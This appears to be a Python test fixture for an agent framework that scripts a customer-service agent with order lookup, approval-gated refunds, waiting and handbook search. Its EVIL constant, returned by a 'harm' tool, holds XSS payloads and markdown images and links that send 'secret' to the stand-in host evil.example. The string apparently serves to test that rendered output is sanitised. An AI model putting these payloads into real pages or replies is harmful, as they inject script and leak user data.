"""A desk whose words follow from what it is asked, with all that a page has to show."""

from __future__ import annotations

import asyncio
from pathlib import Path
from typing import Any

from segue import Agent, Documents, tool
from segue.testing import ScriptedModel, call

HOLD = asyncio.Event()
EVIL = (
    '<img src=x onerror="window.pwned=1"> <script>window.pwned=1</script> [go](javascript:window.pwned=1) '
    "![leak](http://evil.example/leak.png?q=secret) [ok](https://evil.example/?q=secret) "
    '<iframe src="http://evil.example/frame"></iframe> <a href="javascript:window.pwned=1">x</a> '
    "![data](data:text/html;base64,PHNjcmlwdD4=) [b](data:text/html,<script>window.pwned=1</script>) "
    "[handbook/<img src=x onerror=window.pwned=1>.md:1-3] <style>@import 'http://evil.example/x.css';</style>"
)


def desk(folder: Path) -> Agent:
    """It looks up, refunds after approval, cites, waits, and says what is meant to do harm."""
    handbook = folder / "handbook"
    handbook.mkdir(exist_ok=True)
    (handbook / "returns.md").write_text("# Returns\n\nGoods come back within **30 days**.\n\n## Damage\n\nA photo.\n")

    @tool(effect="read")
    def find_order(order_id: int) -> dict[str, Any]:
        """Find an order.

        Args:
            order_id: Its number.
        """
        return {"order_id": order_id, "item": "lantern"}

    @tool(effect="write", approval=True)
    def refund(order_id: int, amount_eur: float) -> str:
        """Refund an order.

        Args:
            order_id: Its number.
            amount_eur: How much.
        """
        return f"order {order_id} got {amount_eur:g} EUR back"

    @tool(effect="read")
    async def wait() -> str:
        """Wait."""
        await HOLD.wait()
        return "it is over"

    @tool(effect="read")
    def harm() -> str:
        """Say what is meant to do harm."""
        return EVIL

    return Agent(
        "desk", description="Looks up orders, refunds them, knows the handbook.", model=ScriptedModel(_say),
        tools=[find_order, refund, wait, harm, Documents(handbook, index=folder / "index.db")],
    )  # fmt: skip


def _say(request: Any) -> Any:
    at = max(number for number, each in enumerate(request.messages) if each["role"] == "user")
    asked = str(request.messages[at]["content"]).lower()
    came = [str(each["content"]) for each in request.messages[at:] if each["role"] == "tool"]
    if "refund" in asked:
        if came:
            return f"This came of it: {came[0]}; {came[1]}."
        return [call("refund", order_id=1042, amount_eur=64.9), call("refund", order_id=1043, amount_eur=10.0)]
    if "wait" in asked:
        return "It waited." if came else call("wait")
    if "harm" in asked:
        return EVIL if came else call("harm")
    if "policy" in asked or "parcels" in asked:
        return f"The handbook says: {came[0]}" if came else call("search_handbook", query=asked)
    if "order" in asked:
        return "It is a lantern." if came else call("find_order", order_id=1042)
    return f"You said: {asked}. " + "A few words more. " * 20
